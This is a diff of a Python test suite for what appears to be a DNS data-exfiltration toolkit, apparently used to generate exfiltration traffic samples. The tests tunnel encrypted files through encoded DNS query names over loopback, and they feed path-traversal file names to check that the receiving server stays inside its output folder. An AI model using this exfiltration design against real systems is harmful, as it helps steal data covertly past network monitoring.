@@ -27,7 +27,11 @@ import pytest
 from cryptography.hazmat.primitives import padding
 from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
 
-from data_generating_codes import det
+from data_generating_codes.det import send_file
+from data_generating_codes.det_codec import answer, new_job_id, plan_queries
+from data_generating_codes.det_config import DetConfig, load_config, style_config
+from data_generating_codes.det_server import DetServer
+from data_generating_codes.det_styles import ENCODINGS, STYLES
 from exfil.cli import UserError
 from exfil.dnsmsg import pack_query, parse_message, qtype_number
 
@@ -36,7 +40,7 @@ SCRIPT = ROOT / "data_generating_codes" / "det.py"
 DATA = ROOT / "data_generating_codes" / "ExfiltrationData"
 DOMAIN = "det-exfil.test"
 PASSPHRASE = "correct horse battery staple"
-BASE = det.DetConfig(domain=DOMAIN, passphrase=PASSPHRASE, port=0, min_sleep=0.0,
+BASE = DetConfig(domain=DOMAIN, passphrase=PASSPHRASE, port=0, min_sleep=0.0,
                      max_sleep=0.0, query_gap=0.0, reply_timeout=2.0)  # fmt: skip
 
 # ---------------------------------------------------------------------------
@@ -176,7 +180,7 @@ def test_det_known_answer_names_and_decoder():
     data = (DATA / "report.txt").read_bytes()
     iv, job_id = bytes(range(16)), "Ab3xY9z"
     cfg = dataclasses.replace(BASE, min_bytes=64, max_bytes=64)
-    got_job, plan = det.plan_queries(data, "report.txt", cfg, random.Random(0), job_id, iv)
+    got_job, plan = plan_queries(data, "report.txt", cfg, random.Random(0), job_id, iv)
     expected = ref_names(ref_messages(data, "report.txt", job_id, iv, 64), job_id)
     assert got_job == job_id
     assert [[n for n, _ in m] for m in plan] == expected
@@ -190,10 +194,10 @@ def test_exact_multiple_message_ends_with_bare_terminator(tmp_path):
     # REGISTER hex length is 2 * (56 + len(name)): pick a name that makes it a multiple.
     size = next(n for n in range(1, 200) if 2 * (56 + n) % piece == 0)
     name = "f" * (size - 4) + ".txt"
-    job_id, plan = det.plan_queries(b"x" * 500, name, BASE, random.Random(1), "Qw3rTy7")
+    job_id, plan = plan_queries(b"x" * 500, name, BASE, random.Random(1), "Qw3rTy7")
     assert plan[0][-1][0] == f"Qw3rTy7.{DOMAIN}"
     assert all(len(n) == 67 for n, _ in plan[0][:-1])
-    server = det.DetServer(BASE, tmp_path)
+    server = DetServer(BASE, tmp_path)
     try:
         for n in flat(plan):
             server.handle(pack_query(7, n, 1))
@@ -202,14 +206,14 @@ def test_exact_multiple_message_ends_with_bare_terminator(tmp_path):
         server.close()
 
 
-@pytest.mark.parametrize("encoding", sorted(det.ENCODINGS))
+@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
 @pytest.mark.parametrize("layout,label,name_len", [("single-label", 63, 67),
                                                    ("multi-label", 63, 253)])  # fmt: skip
 def test_encoding_known_answer(encoding, layout, label, name_len):
     data = bytes(range(256)) * 3
     iv, job_id = b"\x11" * 16, "Zq81Mx0"
     cfg = dataclasses.replace(BASE, encoding=encoding, layout=layout, min_bytes=100, max_bytes=100)
-    _, plan = det.plan_queries(data, "v.bin", cfg, random.Random(0), job_id, iv)
+    _, plan = plan_queries(data, "v.bin", cfg, random.Random(0), job_id, iv)
     piece = ref_piece(layout == "single-label", label, name_len)
     msgs = ref_messages(data, "v.bin", job_id, iv, 100, inner_hex=encoding == "hex")
     assert [[n for n, _ in m] for m in plan] == ref_names(msgs, job_id, encoding, label, piece)
@@ -219,9 +223,9 @@ def test_encoding_known_answer(encoding, layout, label, name_len):
 
 @pytest.mark.parametrize("style", ["base64-cname", "base64url-mx", "base32-burst"])
 def test_counter_layouts_decode_in_any_order(style):
-    cfg = det.style_config(style, BASE)
+    cfg = style_config(style, BASE)
     data = (DATA / "customers.csv").read_bytes()
-    job_id, plan = det.plan_queries(data, "e.csv", cfg, random.Random(5))
+    job_id, plan = plan_queries(data, "e.csv", cfg, random.Random(5))
     names = flat(plan)
     random.Random(9).shuffle(names)
     assert ref_decode(names, cfg.encoding, counter=True) == {job_id: data}
@@ -233,9 +237,9 @@ def test_counter_layouts_decode_in_any_order(style):
 
 def test_counter_layout_known_answer():
     """`<jobid><4 base36 digits of 2*seq+last>.<data in 50-char labels>.<domain>`, <= 160."""
-    cfg = dataclasses.replace(det.style_config("base64-cname", BASE), min_bytes=90, max_bytes=90)
+    cfg = dataclasses.replace(style_config("base64-cname", BASE), min_bytes=90, max_bytes=90)
     data, iv, job_id = bytes(range(200)), b"\x22" * 16, "Cx5Pq0w"
-    _, plan = det.plan_queries(data, "c.bin", cfg, random.Random(0), job_id, iv)
+    _, plan = plan_queries(data, "c.bin", cfg, random.Random(0), job_id, iv)
     fixed = len(DOMAIN) + 1 + 7 + 4 + 1
     piece = max(d for d in range(1, 160) if fixed + d + -(-d // 50) - 1 <= 160)
     expected, seq = [], 0
@@ -256,7 +260,7 @@ def test_counter_layout_known_answer():
 def test_job_ids_and_config_validation(tmp_path):
     rng = random.Random(3)
     for _ in range(50):
-        job = det.new_job_id(rng)
+        job = new_job_id(rng)
         assert len(job) == len(set(job)) == 7 and job.isalnum() and job.isascii()
     bad = tmp_path / "bad.json"
     for text in ["{", '{"domain": "a.test"}', '{"domain": "x.test", "passphrase": "p", "zz": 1}',
@@ -264,8 +268,8 @@ def test_job_ids_and_config_validation(tmp_path):
                  '{"domain": "' + "a" * 60 + '.test", "passphrase": "p"}']:  # fmt: skip
         bad.write_text(text)
         with pytest.raises(UserError):
-            det.load_config(bad)
-    sample = det.load_config(ROOT / "data_generating_codes" / "config-sample.json")
+            load_config(bad)
+    sample = load_config(ROOT / "data_generating_codes" / "config-sample.json")
     assert sample.layout == "single-label" and sample.qtypes == ["A"]
     original = tmp_path / "det-original.json"  # DET's own config shape loads too
     original.write_text(json.dumps({
@@ -273,7 +277,7 @@ def test_job_ids_and_config_validation(tmp_path):
                     "dns": {"key": "google.com", "target": "127.0.0.2", "port": 53}},
         "AES_KEY": "THISISACRAZYKEY", "max_time_sleep": 10, "min_time_sleep": 1,
         "max_bytes_read": 400, "min_bytes_read": 300, "compression": 1}))  # fmt: skip
-    loaded = det.load_config(original)
+    loaded = load_config(original)
     assert (loaded.domain, loaded.passphrase, loaded.target, loaded.max_sleep) == (
         "google.com", "THISISACRAZYKEY", "127.0.0.2", 10)  # fmt: skip
     assert loaded.compression is True and loaded.min_bytes == 300
@@ -284,9 +288,9 @@ def test_job_ids_and_config_validation(tmp_path):
 
 
 @contextmanager
-def running_server(cfg: det.DetConfig, out: Path):
+def running_server(cfg: DetConfig, out: Path):
     """A DetServer on an ephemeral loopback port; yields it and the client's config."""
-    server = det.DetServer(dataclasses.replace(cfg, port=0), out)
+    server = DetServer(dataclasses.replace(cfg, port=0), out)
     thread = server.start()
     try:
         yield server, dataclasses.replace(cfg, port=server.address[1])
@@ -301,16 +305,16 @@ def test_every_exfiltration_file_round_trips_over_udp(tmp_path):
     assert len(files) >= 6 and sum(p.stat().st_size for p in DATA.iterdir()) < 200_000
     with running_server(BASE, tmp_path) as (server, cfg):
         rng = random.Random(11)
-        results = [det.send_file(path, cfg, rng=rng) for path in files]
+        results = [send_file(path, cfg, rng=rng) for path in files]
     assert all(r.unanswered == 0 for r in results)
     for path in files:
         assert (tmp_path / path.name).read_bytes() == path.read_bytes()
     assert server.counts["written"] == len(files) and not server.drops
 
 
-@pytest.mark.parametrize("style", sorted(det.STYLES))
+@pytest.mark.parametrize("style", sorted(STYLES))
 def test_every_style_round_trips_over_udp(style, tmp_path):
-    cfg = dataclasses.replace(det.style_config(style, BASE), min_sleep=0.0, max_sleep=0.0,
+    cfg = dataclasses.replace(style_config(style, BASE), min_sleep=0.0, max_sleep=0.0,
                               query_gap=0.0)  # fmt: skip
     source = DATA / "photo-street.jpg"
     seen: list[bytes] = []
@@ -322,9 +326,9 @@ def test_every_style_round_trips_over_udp(style, tmp_path):
             return original(datagram, now)
 
         server.handle = spy
-        det.send_file(source, client_cfg, rng=random.Random(2))
+        send_file(source, client_cfg, rng=random.Random(2))
     assert (tmp_path / "out" / source.name).read_bytes() == source.read_bytes()
-    qtypes = {det.STYLES[style].get("qtypes", ["A"])[0]}
+    qtypes = {STYLES[style].get("qtypes", ["A"])[0]}
     got = {parse_message(d).questions[0][1] for d in seen}
     assert {qtype_number(q) for q in qtypes} <= got
 
@@ -337,30 +341,30 @@ def test_answers_carry_downstream_data_per_style():
         ("base64url-mx", "MX"),
         ("base36-short", "A"),
     ]:
-        cfg = det.style_config(style, BASE)
-        _, plan = det.plan_queries(b"abc", "a", cfg, random.Random(1))
+        cfg = style_config(style, BASE)
+        _, plan = plan_queries(b"abc", "a", cfg, random.Random(1))
         name = plan[0][0][0]
-        reply = parse_message(det.answer(pack_query(42, name, qtype_number(rtype)), cfg))
+        reply = parse_message(answer(pack_query(42, name, qtype_number(rtype)), cfg))
         assert reply.id == 42 and reply.is_response and reply.rcode == 0
         assert [r.rtype for r in reply.answers] == [qtype_number(rtype)], style
-    aaaa = parse_message(det.answer(pack_query(7, name, qtype_number("AAAA")), cfg))
+    aaaa = parse_message(answer(pack_query(7, name, qtype_number("AAAA")), cfg))
     assert aaaa.rcode == 0 and not aaaa.answers  # fixed-A style: AAAA gets no data
-    reply = parse_message(det.answer(pack_query(5, "Ab3xY9z00." + DOMAIN, 1), BASE))
+    reply = parse_message(answer(pack_query(5, "Ab3xY9z00." + DOMAIN, 1), BASE))
     assert reply.rcode == 3 and not reply.answers  # DET default: NXDOMAIN
-    reply = parse_message(det.answer(pack_query(6, "www.example.com", 1), BASE))
+    reply = parse_message(answer(pack_query(6, "www.example.com", 1), BASE))
     assert reply.rcode == 5  # not our zone: REFUSED
 
 
 def test_duplicates_and_reordered_messages_are_tolerated(tmp_path):
     data = (DATA / "chart.png").read_bytes()
     for style in ["det", "base32-burst"]:
-        cfg = det.style_config(style, BASE)
-        job_id, plan = det.plan_queries(data, "chart.png", cfg, random.Random(4))
+        cfg = style_config(style, BASE)
+        job_id, plan = plan_queries(data, "chart.png", cfg, random.Random(4))
         messages = [plan[0], *random.Random(1).sample(plan[1:], len(plan) - 1)]
         names = [n for m in messages for n, _ in m for _ in range(2)]  # every query twice
         if cfg.layout == "counter":
             random.Random(2).shuffle(names)  # counters allow any order
-        server = det.DetServer(cfg, tmp_path / style)
+        server = DetServer(cfg, tmp_path / style)
         try:
             for name in names:
                 assert server.handle(pack_query(1, name, 1)) is not None
@@ -379,10 +383,10 @@ def test_register_paths_never_escape_the_output_folder(tmp_path):
     out = tmp_path / "a" / "b" / "out"
     before = sorted(p for p in tmp_path.rglob("*"))
     names = ["../../x", "/etc/passwd_det_test", "..", "..\\..\\win.ini", "x", "\x00.txt"]
-    server = det.DetServer(BASE, out)
+    server = DetServer(BASE, out)
     try:
         for number, name in enumerate(names):
-            _, plan = det.plan_queries(b"payload %d" % number, name, BASE, random.Random(number))
+            _, plan = plan_queries(b"payload %d" % number, name, BASE, random.Random(number))
             for query in flat(plan):
                 server.handle(pack_query(number, query, 1))
     finally:
@@ -397,12 +401,12 @@ def test_register_paths_never_escape_the_output_folder(tmp_path):
 
 def test_bad_checksum_and_bad_key_are_reported_not_written(tmp_path):
     data_a, data_b = b"A" * 2000, b"B" * 2000
-    _, plan_a = det.plan_queries(data_a, "a.txt", BASE, random.Random(1), "Job1234", b"\0" * 16)
-    _, plan_b = det.plan_queries(data_b, "a.txt", BASE, random.Random(1), "Job1234", b"\0" * 16)
+    _, plan_a = plan_queries(data_a, "a.txt", BASE, random.Random(1), "Job1234", b"\0" * 16)
+    _, plan_b = plan_queries(data_b, "a.txt", BASE, random.Random(1), "Job1234", b"\0" * 16)
     wrong_key = dataclasses.replace(BASE, passphrase="other")
     for cfg, plan in [(BASE, [plan_b[0], *plan_a[1:]]), (wrong_key, plan_a)]:
         out = tmp_path / uuid.uuid4().hex
-        server = det.DetServer(cfg, out)
+        server = DetServer(cfg, out)
         for query in flat(plan):
             server.handle(pack_query(3, query, 1))
         server.close()
@@ -438,26 +442,39 @@ def test_garbage_bogus_jobs_and_unfinished_jobs_over_udp(tmp_path):
             sock.send(payload)
         assert parse_message(_exchange(sock, valid)).id == 9
         # a job that never finishes: REGISTER and a few chunks, no DONE
-        _, plan = det.plan_queries(b"z" * 5000, "never.txt", cfg, random.Random(1))
+        never_id, plan = plan_queries(b"z" * 5000, "never.txt", cfg, random.Random(1))
         for query in flat(plan[:-1]):
             assert _exchange(sock, pack_query(3, query, 1)) is not None
+        assert never_id in server.jobs  # open, waiting for its DONE
         # 10,000 bogus job ids
         for number in range(10_000):
-            job = det.new_job_id(rng)
+            job = new_job_id(rng)
             sock.send(pack_query(number, f"{job}{number:04x}." + DOMAIN, 1))
             if number % 50 == 0:
                 assert _exchange(sock, valid) is not None
+            if number == 100:  # past the cap; reports are bounded: read them while it is kept
+                in_step = pack_query(60_000, "Ab3xY9z00." + DOMAIN, 1)  # no other query has its id
+                assert _exchange(sock, in_step) is not None  # the server has read all sent so far
+                early = list(server.reports)
         assert len(server.jobs) <= cfg.max_jobs
         time.sleep(1.5)  # past job_timeout: the sweep reports what is left
         reply = _exchange(sock, valid)
         assert reply is not None and parse_message(reply).rcode == 3
         sock.close()
         # the server still works for a real file afterwards
-        det.send_file(DATA / "report.txt", client_cfg, rng=random.Random(3))
+        send_file(DATA / "report.txt", client_cfg, rng=random.Random(3))
     assert [p.name for p in tmp_path.iterdir()] == ["report.txt"]
     assert len(server.jobs) == 0 and server.counts["evicted"] >= 10_000 - cfg.max_jobs
-    never = [r for r in server.reports if r["file"] == "never.txt"]
-    assert never == [] or never[0]["status"] in ("incomplete", "evicted")
+    # the never job was the least recently used when the job cap was first reached (only a
+    # machine stalled past job_timeout would time it out first): closed once, never written
+    never = [r for r in early if r["job_id"] == never_id]
+    assert len(never) == 1, early
+    why = {"evicted": f"job cap {cfg.max_jobs} reached",
+           "incomplete": f"no query for {cfg.job_timeout:g} s"}  # fmt: skip
+    assert never[0]["reason"] == why.get(never[0]["status"]), never
+    tally = (never[0]["file"], never[0]["queries"], never[0]["chunks"], never[0]["count"])
+    assert tally == ("never.txt", len(flat(plan[:-1])), len(plan) - 2, None), never
+    assert never_id not in server.jobs
     assert server.counts["incomplete"] + server.counts["evicted"] >= 10_001
     assert len(server.reports) <= server.reports.maxlen and len(server.finished) <= 8192
     for reason in ["malformed-truncated-header", "bad-job-id", "outside-domain"]:
@@ -466,8 +483,8 @@ def test_garbage_bogus_jobs_and_unfinished_jobs_over_udp(tmp_path):
 
 def test_unfinished_job_is_reported_by_timeout(tmp_path):
     cfg = dataclasses.replace(BASE, job_timeout=0.2)
-    server = det.DetServer(cfg, tmp_path)
-    _, plan = det.plan_queries(b"q" * 3000, "half.bin", cfg, random.Random(1))
+    server = DetServer(cfg, tmp_path)
+    _, plan = plan_queries(b"q" * 3000, "half.bin", cfg, random.Random(1))
     for query in flat(plan[:2]):
         server.handle(pack_query(1, query, 1), now=100.0)
     server.expire(100.1)
@@ -586,15 +603,15 @@ def test_client_gives_up_when_nobody_answers(tmp_path):
                                   retries=0, give_up=3)  # fmt: skip
         started = time.monotonic()
         with pytest.raises(UserError, match="stopped answering"):
-            det.send_file(DATA / "report.txt", cfg, rng=random.Random(1))
+            send_file(DATA / "report.txt", cfg, rng=random.Random(1))
         assert time.monotonic() - started < 2
 
 
 def test_memory_caps_fail_big_jobs_and_evict_old_ones(tmp_path):
     cfg = dataclasses.replace(BASE, max_job_bytes=4000, max_total_bytes=20_000)
-    server = det.DetServer(cfg, tmp_path)
+    server = DetServer(cfg, tmp_path)
     try:
-        _, big = det.plan_queries(os.urandom(20_000), "big.bin", cfg, random.Random(1))
+        _, big = plan_queries(os.urandom(20_000), "big.bin", cfg, random.Random(1))
         for query in flat(big):
             server.handle(pack_query(1, query, 1))
         assert (
@@ -602,7 +619,7 @@ def test_memory_caps_fail_big_jobs_and_evict_old_ones(tmp_path):
             and "max_job_bytes" in (server.reports[-1]["reason"])
         )
         for number in range(40):  # 40 unfinished jobs holding ~0.8 kB each
-            _, plan = det.plan_queries(os.urandom(2000), "s.bin", cfg, random.Random(number))
+            _, plan = plan_queries(os.urandom(2000), "s.bin", cfg, random.Random(number))
             for query in flat(plan[:3]):
                 server.handle(pack_query(1, query, 1))
             assert server.held <= cfg.max_total_bytes
@@ -619,7 +636,7 @@ def test_cli_server_stops_cleanly_on_signal(tmp_path, signum):
     server, where = _start_server([sys.executable, str(SCRIPT), "-c", str(config), "-L",
                                    "--port", "0", "--out", str(tmp_path / "rx")])  # fmt: skip
     try:
-        _, plan = det.plan_queries(b"k" * 3000, "half.txt", BASE, random.Random(1))
+        _, plan = plan_queries(b"k" * 3000, "half.txt", BASE, random.Random(1))
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
             sock.connect(("127.0.0.1", int(where.rsplit(":", 1)[1])))
             sock.settimeout(5)
@@ -638,8 +655,8 @@ def test_fuzzed_datagrams_never_break_the_server(tmp_path):
     from hypothesis import HealthCheck, given, settings
     from hypothesis import strategies as st
 
-    cfg = det.style_config("base32-burst", BASE)
-    server = det.DetServer(cfg, tmp_path)
+    cfg = style_config("base32-burst", BASE)
+    server = DetServer(cfg, tmp_path)
     alphabet = st.sampled_from(list(b"abcdefghijklmnopqrstuvwxyz0123456789ABZ-_.\xff"))
     labels = st.lists(st.binary(min_size=1, max_size=63).map(bytes), max_size=4)
     names = st.tuples(st.lists(alphabet, min_size=7, max_size=40).map(bytes), labels)
